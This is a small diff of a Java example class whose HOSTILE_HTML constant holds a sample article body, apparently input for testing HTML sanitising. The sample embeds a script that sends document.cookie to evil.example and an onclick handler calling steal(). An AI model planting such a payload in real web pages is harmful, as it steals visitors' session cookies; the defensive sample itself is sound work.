@@ -16,7 +16,8 @@ import java.io.PrintStream;
 public final class HtmlBodyExample {
 
   /** An article body as a careless or hostile CMS might deliver it. */
-  public static final String HOSTILE_HTML = """
+  public static final String HOSTILE_HTML =
+      """
       <h1 onclick="steal()">Конференция ДЗЯО</h1>
       <script>document.location='https://evil.example/?c='+document.cookie</script>
       <p style="color:red">Делегацию возглавил <b>Мурат Нуртлеу</b>,
